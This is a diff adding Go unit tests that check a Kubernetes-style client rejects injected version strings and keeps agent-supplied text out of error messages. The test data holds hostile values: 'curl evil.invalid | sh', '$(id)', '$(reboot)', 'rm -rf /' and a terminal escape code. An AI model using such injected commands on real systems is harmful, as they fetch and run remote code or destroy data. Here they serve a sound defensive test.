@@ -1,0 +1,56 @@
+package client
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/podsrc/podsrc/pkg/api/v1alpha1"
+)
+
+func TestCheckedVersion(t *testing.T) {
+	tests := []struct {
+		name     string
+		in, want v1alpha1.Version
+	}{
+		{
+			name: "versions",
+			in:   v1alpha1.Version{AgentVersion: "v0.1.0-rc.1+abc", ServedVersion: "v1alpha1", KubeletSemantics: "v1.36.3", NodeKubeletVersion: "1.35.1", GoVersion: "go1.26.8"},
+			want: v1alpha1.Version{AgentVersion: "v0.1.0-rc.1+abc", ServedVersion: "v1alpha1", KubeletSemantics: "v1.36.3", NodeKubeletVersion: "1.35.1", GoVersion: "go1.26.8"},
+		},
+		{
+			name: "not given",
+			in:   v1alpha1.Version{},
+			want: v1alpha1.Version{},
+		},
+		{
+			name: "commands and text",
+			in: v1alpha1.Version{AgentVersion: "v1.2.3; curl evil.invalid | sh", ServedVersion: "v1alpha1 $(id)", KubeletSemantics: "$(reboot)",
+				NodeKubeletVersion: " v1.36.3", GoVersion: "go1.26.8\x1b[2J"},
+			want: v1alpha1.Version{AgentVersion: UnknownVersion, ServedVersion: UnknownVersion, KubeletSemantics: UnknownVersion,
+				NodeKubeletVersion: UnknownVersion, GoVersion: UnknownVersion},
+		},
+		{
+			name: "a version too long to be one",
+			in:   v1alpha1.Version{AgentVersion: "v1.2.3-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"},
+			want: v1alpha1.Version{AgentVersion: UnknownVersion},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			in := tt.in
+			if got := *checkedVersion(&in); got != tt.want {
+				t.Errorf("got %+v, want %+v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSkewErrorShowsNoAgentText(t *testing.T) {
+	a := &Agent{Node: "node-1"}
+	err := a.skewError("podsrc.io/v1alpha1; rm -rf /", "v9; curl evil.invalid | sh")
+	got := err.Error()
+	want := `the agent on node "node-1" is too old: it serves podsrc.io/unknown`
+	if !strings.HasPrefix(got, want) || strings.Contains(got, "curl") || strings.Contains(got, "rm -rf") {
+		t.Errorf("got %q, want it to start %q and to show no agent text", got, want)
+	}
+}
